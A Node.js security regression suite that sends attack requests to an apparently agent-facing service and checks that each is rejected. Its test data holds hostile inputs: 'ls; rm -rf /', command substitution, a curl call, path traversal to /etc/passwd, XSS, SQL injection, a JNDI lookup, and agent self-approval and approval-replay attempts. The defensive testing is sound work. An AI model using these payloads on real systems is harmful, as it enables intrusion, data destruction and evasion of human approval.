// Adversarial security suites: every attack must be REJECTED with the right
// status and error code; a control request proves the door is not simply shut.
//   node adversarial.mjs --suite auth|policy|sandbox|input|waf|rbac [--suite ...] [--out security]
// Writes out/<out>/<suite>.json (each attack, expected vs got) and JUnit XML in out/junit-security/.
// Exits 1 if any attack got through or was rejected for the wrong reason.
import { http, serviceToken, targetUrl, args, fail, log } from './lib.mjs';
import { runSuite } from './junit.mjs';

const a = args();
const suites = process.argv.slice(2).reduce((acc, x, i, all) => (x === '--suite' ? [...acc, all[i + 1]] : acc), []);
if (suites.length === 0) fail('usage: adversarial.mjs --suite auth|policy|sandbox|input|waf|rbac [--suite ...]', 2);
const outName = String(a.out ?? 'security');
const base = targetUrl();
const token = serviceToken();
const auth = { authorization: `Bearer ${token}` };
const post = (p, json, headers = {}) => http('POST', `${base}${p}`, { json, headers });
const approve = async (tool, args) => (await post('/v1/approvals', { tool, args }, { ...auth, 'x-role': 'approver' })).json?.approval;

/** [name, async () => response, expected status, expected error code (regex) or null for a control] */
const SUITES = {
  // 3A: internal service auth (bearer tokens)
  auth: [
    ['control: valid bearer token is accepted', () => http('GET', `${base}/auth/whoami`, { headers: auth }), 200, null],
    ['no token', () => http('GET', `${base}/auth/whoami`), 401, /^unauthorized$/],
    ['wrong bearer token', () => http('GET', `${base}/auth/whoami`, { headers: { authorization: 'Bearer not-the-token' } }), 401, /^unauthorized$/],
    ['token with one character changed', () => http('GET', `${base}/auth/whoami`, { headers: { authorization: `Bearer ${token.slice(0, -1)}${token.endsWith('A') ? 'B' : 'A'}` } }), 401, /^unauthorized$/],
    ['token in the query string instead of a header', () => http('GET', `${base}/auth/whoami?token=${encodeURIComponent(token)}`), 401, /^unauthorized$/],
    ['malformed Authorization header', () => http('GET', `${base}/auth/whoami`, { headers: { authorization: `Basic ${Buffer.from(`x:${token}`).toString('base64')}` } }), 401, /^unauthorized$/],
    ['spoofed X-Service-Token', () => http('GET', `${base}/auth/whoami`, { headers: { 'x-service-token': 'svc-internal' } }), 401, /^unauthorized$/],
    ['admin endpoint without a token', () => post('/admin/fault', { mode: 'db-outage' }), 401, /^unauthorized$/],
  ],
  // 3B: policy enforcement (destructive tools require approval)
  policy: [
    ['control: approved destructive tool runs', async () => post('/v1/action', { tool: 'drop_table', args: { table: 'scratch' }, approval: await approve('drop_table', { table: 'scratch' }) }, auth), 200, null],
    ['direct tool execution without approval', () => post('/v1/action', { tool: 'drop_table', args: { table: 'records' } }, auth), 403, /^approval_required$/],
    ['spoofed approval token', () => post('/v1/action', { tool: 'drop_table', args: { table: 'records' }, approval: 'eyJ0b29sIjoiZHJvcF90YWJsZSJ9.c3Bvb2ZlZA' }, auth), 403, /^approval_invalid_signature$/],
    ['cross-tool approval reuse', async () => post('/v1/action', { tool: 'drop_table', args: { path: 'docs/readme.txt' }, approval: await approve('delete_file', { path: 'docs/readme.txt' }) }, auth), 403, /^approval_wrong_tool$/],
    ['approval reused with different arguments', async () => post('/v1/action', { tool: 'drop_table', args: { table: 'sessions' }, approval: await approve('drop_table', { table: 'records' }) }, auth), 403, /^approval_wrong_args$/],
    ['approval replayed', async () => {
      const ap = await approve('drop_table', { table: 'quotas' });
      await post('/v1/action', { tool: 'drop_table', args: { table: 'quotas' }, approval: ap }, auth);
      return post('/v1/action', { tool: 'drop_table', args: { table: 'quotas' }, approval: ap }, auth);
    }, 403, /^approval_replayed$/],
    ['self-approval by a non-approver', () => post('/v1/approvals', { tool: 'drop_table', args: { table: 'records' } }, auth), 403, /^not_an_approver$/],
  ],
  // 3C: command allowlist and path sandboxing
  sandbox: [
    ['control: allowlisted command with approval', async () => post('/v1/action', { tool: 'shell', args: { command: 'ls docs' }, approval: await approve('shell', { command: 'ls docs' }) }, auth), 200, null],
    ['command allowlist bypass with ;', async () => post('/v1/action', { tool: 'shell', args: { command: 'ls; rm -rf /' }, approval: await approve('shell', { command: 'ls; rm -rf /' }) }, auth), 403, /^command_metacharacters$/],
    ['command substitution', async () => post('/v1/action', { tool: 'shell', args: { command: 'echo $(id)' }, approval: await approve('shell', { command: 'echo $(id)' }) }, auth), 403, /^command_metacharacters$/],
    ['command not on the allowlist', async () => post('/v1/action', { tool: 'shell', args: { command: 'curl http://example.invalid' }, approval: await approve('shell', { command: 'curl http://example.invalid' }) }, auth), 403, /^command_not_allowlisted$/],
    ['path traversal', () => post('/v1/action', { tool: 'read_file', args: { path: '../../../../etc/passwd' } }, auth), 403, /^(path_traversal|waf_blocked_traversal)$/],
    ['URL-encoded path traversal', () => post('/v1/action', { tool: 'read_file', args: { path: '..%2f..%2f..%2fetc%2fpasswd' } }, auth), 403, /^(path_traversal|waf_blocked_traversal)$/],
    ['absolute path', () => post('/v1/action', { tool: 'read_file', args: { path: '/etc/passwd' } }, auth), 403, /^path_absolute$/],
    ['symlink attack (link inside the sandbox pointing out)', () => post('/v1/action', { tool: 'read_file', args: { path: 'escape/etc/passwd' } }, auth), 403, /^path_symlink_escape$/],
    ['NUL byte in path', () => post('/v1/action', { tool: 'read_file', args: { path: 'docs/readme.txt\u0000.png' } }, auth), 403, /^path_nul_byte$/],
  ],
  // Input validation on the public API
  input: [
    ['wrong content type', () => http('POST', `${base}/api/chat`, { body: 'hi', headers: { 'content-type': 'text/plain' } }), 415, /^unsupported_media_type$/],
    ['invalid JSON', () => http('POST', `${base}/api/chat`, { body: '{"message": ', headers: { 'content-type': 'application/json' } }), 400, /^invalid_json$/],
    ['oversized body', () => post('/api/chat', { message: 'x'.repeat(70_000) }), 413, /^payload_too_large$/],
    ['message of the wrong type', () => post('/api/chat', { message: { $gt: '' } }), 400, /^message_required$/],
    ['unknown tool', () => post('/v1/action', { tool: 'format_disk', args: {} }, auth), 422, /^unknown_tool$/],
  ],
  // WAF rules hold under attack payloads
  waf: [
    ['script injection', () => post('/api/chat', { message: '<script>alert(1)</script>' }), 403, /^waf_blocked_xss$/],
    ['SQL injection', () => post('/api/chat', { message: "x' OR 1=1 --" }), 403, /^waf_blocked_sqli$/],
    ['UNION SELECT', () => post('/api/chat', { message: 'a UNION SELECT password FROM users' }), 403, /^waf_blocked_sqli-union$/],
    ['JNDI lookup', () => post('/api/chat', { message: '${jndi:ldap://example.invalid/a}' }), 403, /^waf_blocked_jndi$/],
  ],
  // Agent RBAC: tool calls are authorised, no escalation of privileges
  rbac: [
    ['agent without a token calls a tool', () => post('/v1/action', { tool: 'echo', args: { text: 'hi' } }), 401, /^unauthorized$/],
    ['agent grants itself an approval (escalation)', () => post('/v1/approvals', { tool: 'shell', args: { command: 'ls' } }, { ...auth, 'x-role': 'agent' }), 403, /^not_an_approver$/],
    ['agent runs a destructive tool without approval', () => post('/v1/action', { tool: 'shell', args: { command: 'ls' } }, auth), 403, /^approval_required$/],
    ['agent rotates the service token', () => post('/admin/rotate-token', {}, { authorization: 'Bearer agent-token' }), 401, /^unauthorized$/],
  ],
};

let failedTotal = 0;
for (const suite of suites) {
  const list = SUITES[suite];
  if (!list) fail(`unknown suite "${suite}"; expected one of ${Object.keys(SUITES).join(', ')}`, 2);
  log(`suite ${suite}: ${list.filter((c) => c[3]).length} attacks, ${list.filter((c) => !c[3]).length} control(s)`);
  const cases = list.map(([name, send, status, code]) => ({
    classname: `security.${suite}`,
    name,
    run: async () => {
      const r = await send();
      const got = `${r.status}${r.json?.error ? ` ${r.json.error}` : ''}`;
      if (r.status !== status) throw new Error(`expected ${status}${code ? ` (${code.source})` : ''}, got ${r.status === 0 ? `no response (${r.error})` : got}${r.status < 300 && code ? ' — ATTACK ACCEPTED' : ''}`);
      if (code && !code.test(String(r.json?.error ?? ''))) throw new Error(`rejected for the wrong reason: ${got}, expected ${code.source}`);
      return code ? `rejected: ${got}` : `accepted: ${r.status}`;
    },
  }));
  const { failed } = await runSuite(`${outName}-${suite}`, cases, { junitDir: `junit-${outName}` });
  failedTotal += failed;
}
process.exit(failedTotal === 0 ? 0 : 1);
